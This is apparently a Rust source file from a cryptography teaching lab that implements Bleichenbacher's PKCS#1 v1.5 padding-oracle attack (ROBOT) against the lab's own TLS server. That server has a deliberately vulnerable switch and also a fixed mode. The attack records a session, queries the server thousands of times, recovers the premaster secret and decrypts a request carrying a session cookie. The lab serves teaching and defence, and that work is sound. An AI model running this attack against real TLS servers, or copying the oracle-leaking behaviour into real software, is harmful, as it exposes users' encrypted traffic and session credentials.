//! Lab 1: Bleichenbacher's attack on RSA key transport (1998), as ROBOT
//! found it in TLS servers in 2017 — against a padlock-tls server whose
//! switch `RsaPaddingOracle` answers a bad PKCS#1 v1.5 padding with its own
//! alert. The attacker records a TLS 1.2 session, then decrypts its
//! premaster secret through the server, one handshake per oracle query, and
//! reads the recorded request.
//!
//! - [`attack`]: the attack itself (Bleichenbacher, with Bardou et al.'s
//!   trimming and hole skipping);
//! - `oracle`: the server as an oracle, one TLS handshake per query.

pub mod attack;
mod oracle;

use padlock_rsa::RsaPublicKey;
use padlock_tls::key_schedule::SecretKind;
use padlock_tls::key_schedule::tls12::MasterSecret;
use padlock_tls::lab::{Switch, Switches};
use padlock_tls::messages::{HandshakeType, ServerHello, ext};
use padlock_tls::record::{ContentType, HalfConn, Record};
use padlock_tls::suites::RSA_AES_128_GCM_SHA256;
use padlock_tls::trace::Side;
use padlock_tls::{ProtocolVersion, ServerConfig};

pub use oracle::Answer;

use crate::common::{self, Message};
use crate::nat::{ModN, Nat};
use crate::net::{self, Direction, Proxy, Server};
use crate::report::{Report, Role, thousands};
use crate::{Outcome, Params, Scale};

/// The server's RSA key: 2048 bits, as in the lab and the tests (a smaller
/// key makes *more* queries: fewer random blocks have the zero separator).
const RSA_BITS: usize = 2048;

/// Oracle queries in flight at once: the server has two worker threads.
const WIDTH: usize = 2;

/// The page the server holds for the victim.
const PAGE: &str = "Account 4711: balance 1,024.00 EUR\n";

pub(crate) fn run(params: &Params, report: &mut Report<'_>) -> Result<Outcome, String> {
    let seed = params.seed;
    report.heading("The setting");
    report.explain(format!(
        "A TLS 1.2 server offers RSA key transport (TLS_RSA_WITH_AES_128_GCM_SHA256) with a {RSA_BITS}-bit \
         key. {} A client logs in; the attacker, on the path, records the connection. Later, the attacker \
         connects to the server itself, thousands of times, each time sending a ClientKeyExchange of its own \
         making, and watches how the server reacts.",
        if params.fixed {
            "This is the real padlock-tls server (--fixed): whatever the padding, it goes on with a random \
             premaster secret (RFC 5246 §7.4.7.1) and fails later, at the Finished, the same way every time."
        } else {
            "Its switch RsaPaddingOracle is on (crates/tls/src/server/tls12.rs): a ClientKeyExchange whose \
             PKCS#1 v1.5 padding is wrong gets an immediate decrypt_error alert, where a good one gets as \
             far as the Finished, which fails with bad_record_mac. That difference is the oracle."
        }
    ));
    let pki = common::pki(RSA_BITS, &["localhost"], seed)?;
    let mut config = ServerConfig::new(vec![pki.leaf.clone()], pki.key.clone());
    config.versions = vec![ProtocolVersion::Tls12];
    config.cipher_suites = vec![RSA_AES_128_GCM_SHA256];
    if !params.fixed {
        config.switches = Switches::NONE.turn_on(Switch::RsaPaddingOracle);
    }
    let server = Server::start(config, seed, WIDTH, |stream| net::answer_request(stream, PAGE).map(|_| ()))?;
    let public = pki.key.public_key().clone();

    let recorded = record_session(&server, &pki.ca, &public, seed, report)?;
    let Some(yes) = calibrate(&server, &public, &recorded, seed, report)? else {
        report.figure("oracle queries", "3 (the calibration)");
        report.verdict(
            false,
            "no oracle: every ClientKeyExchange gets the same answer, so the attack cannot start",
        );
        return Ok(Outcome { attack_succeeded: false, queries: 3, seconds: 0.0 });
    };
    let (premaster, queries) = attack_premaster(&server, &public, &recorded, yes, params, report)?;
    let succeeded = decrypt_recording(&recorded, &premaster, report)?;
    report.figure("RSA modulus", format!("{RSA_BITS} bits"));
    report.figure("oracle queries", thousands(queries));
    report.verdict(
        succeeded,
        if succeeded {
            "the recorded session is decrypted: the attacker never touched the server's private key"
        } else {
            "the attack did not decrypt the session"
        },
    );
    Ok(Outcome { attack_succeeded: succeeded, queries, seconds: 0.0 })
}

/// What the attacker took from the recorded connection.
struct Recorded {
    log: Vec<(Direction, net::RawRecord)>,
    messages: Vec<Message>,
    /// The encrypted premaster secret, c0.
    ciphertext: Vec<u8>,
    client_random: [u8; 32],
    server_random: [u8; 32],
    extended_master_secret: bool,
    /// The truth, from the client's trace (the attacker never sees it).
    true_premaster: Vec<u8>,
    /// The request the client sent, for comparison.
    true_request: Vec<u8>,
}

/// Act 1: a client logs in through the attacker's recording proxy.
fn record_session(
    server: &Server,
    ca: &padlock_x509::Certificate,
    public: &RsaPublicKey,
    seed: u64,
    report: &mut Report<'_>,
) -> Result<Recorded, String> {
    report.heading("Act 1: a session is recorded");
    let proxy = Proxy::start(server.address(), net::pass())?;
    let mut config = common::client_config("localhost", ca);
    config.versions = vec![ProtocolVersion::Tls12];
    config.cipher_suites = vec![RSA_AES_128_GCM_SHA256];
    let cookie = padlock_tls::trace::hex(&net::random_bytes(seed, 7, 16));
    let request = format!("GET /account HTTP/1.1\r\nHost: localhost\r\nCookie: session={cookie}\r\n\r\n");
    let fetched = common::fetch(proxy.address(), config, seed, request.as_bytes());
    let log = proxy.finish();
    fetched.response.map_err(|e| format!("the client's session failed: {e}"))?;
    let messages = common::plaintext_handshake(&log);
    let cke = common::body_of(&messages, HandshakeType::ClientKeyExchange)
        .ok_or("no ClientKeyExchange recorded")?;
    let ciphertext = padlock_tls::messages::decode_client_key_exchange(
        cke,
        padlock_tls::messages::KeyExchangeAlgorithm::Rsa,
    )
    .map_err(|e| e.to_string())?;
    let hello = common::body_of(&messages, HandshakeType::ClientHello).ok_or("no ClientHello recorded")?;
    let client_random: [u8; 32] =
        hello.get(2..34).and_then(|r| r.try_into().ok()).ok_or("a short ClientHello")?;
    let server_hello =
        common::body_of(&messages, HandshakeType::ServerHello).ok_or("no ServerHello recorded")?;
    let server_hello = ServerHello::decode(server_hello).map_err(|e| e.to_string())?;
    let true_premaster = common::traced_secret(&fetched.events, Side::Client, SecretKind::Tls12Premaster)
        .ok_or("the client traced no premaster secret")?;
    report.wire(
        Role::Client,
        Role::Server,
        "ClientKeyExchange: the premaster secret, RSA-encrypted (c0)",
        cke,
    );
    let app_records = common::records_of(&log, Direction::ToServer, net::APPLICATION_DATA);
    if let Some(record) = app_records.first() {
        report.wire(Role::Client, Role::Server, "the request, AES-GCM-encrypted", &record.to_bytes());
    }
    report.explain(format!(
        "The client made a 48-byte premaster secret, padded it as PKCS#1 v1.5 prescribes (00 02, at least \
         eight random non-zero bytes, 00, then the secret: {} bytes in all) and encrypted it with the server's \
         public key (n, e = {}). Every key of the session comes from that premaster secret and the two \
         randoms, which travel in the clear. The attacker has all of it on disk; it lacks only the premaster \
         secret.",
        public.size(),
        public.e()
    ));
    Ok(Recorded {
        log,
        messages,
        ciphertext,
        client_random,
        server_random: server_hello.random,
        extended_master_secret: server_hello.extensions.has(ext::EXTENDED_MASTER_SECRET),
        true_premaster,
        true_request: request.into_bytes(),
    })
}

/// Act 2: does the server answer a good padding differently from a bad
/// one? Three probes: a ciphertext the attacker padded and encrypted
/// itself (good), one of random bytes (bad), and the recorded one.
fn calibrate(
    server: &Server,
    public: &RsaPublicKey,
    recorded: &Recorded,
    seed: u64,
    report: &mut Report<'_>,
) -> Result<Option<Answer>, String> {
    report.heading("Act 2: is there an oracle?");
    report.explain(
        "First the attacker calibrates, as the ROBOT scanner did in 2017: it sends a ClientKeyExchange it \
         padded correctly itself (anyone can encrypt to the server's public key), one of random bytes, and the \
         recorded one, each followed by a ChangeCipherSpec and a Finished of random bytes, and compares the \
         answers.",
    );
    let good = public.encrypt_pkcs1v15(&[3u8; 48], &mut net::rng(seed, 8)).map_err(|e| e.to_string())?;
    let mut bad = net::random_bytes(seed, 9, public.size());
    bad[0] = 0; // below n
    let hello = oracle::client_hello([7; 32])?;
    let answers = [
        ("a good padding", oracle::probe(server.address(), &hello, &good)?),
        ("a bad padding", oracle::probe(server.address(), &hello, &bad)?),
        ("the recorded c0", oracle::probe(server.address(), &hello, &recorded.ciphertext)?),
    ];
    for (what, answer) in &answers {
        report.wire(Role::Server, Role::Attacker, format!("to {what}: {}", answer.name()), &[]);
    }
    if answers[0].1 == answers[1].1 {
        report.leak("nothing: a good and a bad padding get the same answer");
        return Ok(None);
    }
    report.leak(format!(
        "whether the padding is right: \"{}\" means yes, \"{}\" means no",
        answers[0].1.name(),
        answers[1].1.name()
    ));
    Ok(Some(answers[0].1))
}

/// Act 3: the attack, through the server.
fn attack_premaster(
    server: &Server,
    public: &RsaPublicKey,
    recorded: &Recorded,
    yes: Answer,
    params: &Params,
    report: &mut Report<'_>,
) -> Result<(Vec<u8>, u64), String> {
    report.heading("Act 3: the attack");
    report.explain(
        "RSA is multiplicative: (c0 s^e)^d = m0 s mod n. So the attacker sends c0 s^e for multipliers s of its \
         choosing, and each \"yes\" says that m0 s mod n starts with 00 02, i.e. lies in [2B, 3B) with B = \
         2^(8(k-2)). First it tries small fractions u/t (Bardou et al. 2012, \"trimming\"), then searches for \
         the first s that works (step 2a, skipping the values that cannot), then each further hit roughly halves \
         the interval where m0 can be (steps 2b, 2c) until one number is left.",
    );
    let n = Nat::from_be_bytes(&public.n_bytes());
    let mut oracle = oracle::TlsOracle {
        address: server.address(),
        hello: oracle::client_hello([7; 32])?,
        n: ModN::new(&n),
        e: public.e(),
        k: public.size(),
        c0: Nat::from_be_bytes(&recorded.ciphertext),
        yes,
        width: WIDTH,
    };
    let budget = match params.scale {
        Scale::Lab => 250_000,
        Scale::Test => 60_000,
    };
    let mut last_phase = "";
    let mut on_progress = |p: &attack::Progress| {
        if p.phase != last_phase {
            last_phase = p.phase;
        }
        report.progress(p.queries, format!("{}, {} bits of m0 still unknown", p.phase, p.bits_left));
    };
    let recovered = attack::recover(&n, &mut oracle, budget, 1000, &mut on_progress)?;
    let premaster = recovered.plaintext[recovered.plaintext.len() - 48..].to_vec();
    report.value(
        "trimming",
        format!(
            "{} queries, {} fractions u/t said yes",
            thousands(recovered.trimming_queries),
            recovered.trimmers
        ),
    );
    report.value("step 2a", format!("{} queries to the first s", thousands(recovered.step2a_queries)));
    report.value(
        "steps 2b, 2c",
        format!(
            "{} queries",
            thousands(recovered.queries - recovered.trimming_queries - recovered.step2a_queries)
        ),
    );
    report.recovered("premaster secret", &premaster, &recorded.true_premaster);
    Ok((premaster, recovered.queries))
}

/// Act 4: the recorded session, decrypted with the recovered premaster.
fn decrypt_recording(recorded: &Recorded, premaster: &[u8], report: &mut Report<'_>) -> Result<bool, String> {
    report.heading("Act 4: the recording, decrypted");
    let suite = RSA_AES_128_GCM_SHA256;
    let master = if recorded.extended_master_secret {
        // RFC 7627 §4: the session hash covers ClientHello to ClientKeyExchange,
        // all in the recording, all in the clear.
        let mut transcript = Vec::new();
        for message in &recorded.messages {
            transcript.extend_from_slice(&message.raw);
            if message.typ == Some(HandshakeType::ClientKeyExchange) {
                break;
            }
        }
        MasterSecret::derive_extended(suite.hash, premaster, &suite.hash.hash(&transcript))
    } else {
        MasterSecret::derive(suite.hash, premaster, &recorded.client_random, &recorded.server_random)
    };
    let (key_len, iv_len) = (suite.aead.key_len(), suite.aead.tls12_fixed_iv_len());
    let keys = master.key_block(&recorded.client_random, &recorded.server_random, key_len, iv_len);
    let mut client = HalfConn::tls12(suite.aead, &keys.client_write_key, &keys.client_write_iv)
        .map_err(|e| e.to_string())?;
    let mut plaintext = Vec::new();
    let after_ccs = recorded
        .log
        .iter()
        .filter(|(d, _)| *d == Direction::ToServer)
        .skip_while(|(_, r)| r.typ != net::CHANGE_CIPHER_SPEC)
        .skip(1);
    for (_, raw) in after_ccs {
        let Some(content_type) = ContentType::from_u8(raw.typ) else { break };
        let record = Record { content_type, version: raw.version, fragment: raw.body.clone() };
        match client.open(record) {
            Ok((ContentType::ApplicationData, data)) => plaintext.extend_from_slice(&data),
            Ok(_) => {}
            Err(_) => break,
        }
    }
    let succeeded = !plaintext.is_empty() && plaintext == recorded.true_request;
    report.explain(format!(
        "From the premaster secret the attacker derives the master secret ({}) and the key block, exactly as \
         the client and server did, and opens the recorded records.",
        if recorded.extended_master_secret {
            "the extended master secret of RFC 7627, whose session hash is in the recording too: it binds the \
             keys to the handshake, it does not hide them"
        } else {
            "RFC 5246 §8.1"
        }
    ));
    report.value("the client's request, decrypted", common::printable(&plaintext));
    Ok(succeeded)
}

#[cfg(test)]
mod screening {
    use super::*;
    use crate::report::Note;

    struct Sim {
        n: ModN,
        m0: Nat,
        k: usize,
    }
    impl attack::Oracle for Sim {
        fn conforming(&mut self, s: &Nat) -> Result<bool, String> {
            let m = self.n.mul(&self.m0, s);
            Ok(attack::conforming_vartime(&m.to_be_bytes(self.k).unwrap()))
        }
        fn width(&self) -> usize {
            2
        }
    }

    #[test]
    #[ignore]
    fn screen_seeds() {
        for seed in 1..=40u64 {
            let pki = common::pki(RSA_BITS, &["localhost"], seed).unwrap();
            let mut config = ServerConfig::new(vec![pki.leaf.clone()], pki.key.clone());
            config.versions = vec![ProtocolVersion::Tls12];
            config.cipher_suites = vec![RSA_AES_128_GCM_SHA256];
            let server =
                Server::start(config, seed, 1, |s| net::answer_request(s, PAGE).map(|_| ())).unwrap();
            let mut sink = |_: &Note| {};
            let mut report = Report::new(&mut sink);
            let public = pki.key.public_key().clone();
            let recorded = record_session(&server, &pki.ca, &public, seed, &mut report).unwrap();
            let n = Nat::from_be_bytes(&public.n_bytes());
            let modn = ModN::new(&n);
            let d = padlock_bigint::Uint::from_be_bytes(&pki.key.d_bytes());
            let nm = padlock_bigint::Modulus::new(&n.to_uint(32)).unwrap();
            let c0 = Nat::from_be_bytes(&recorded.ciphertext).to_uint(32);
            let m0 = nm.pow(&c0, &d.resize(32).unwrap());
            let m0 = Nat::from_be_bytes(&m0.to_be_bytes(256).unwrap());
            let mut sim = Sim { n: modn, m0, k: 256 };
            let r = attack::recover(&n, &mut sim, 10_000_000, 1 << 40, &mut |_| {}).unwrap();
            assert_eq!(&r.plaintext[208..], &recorded.true_premaster[..]);
            println!("seed {seed}: {} queries (2a {})", r.queries, r.step2a_queries);
        }
    }
}
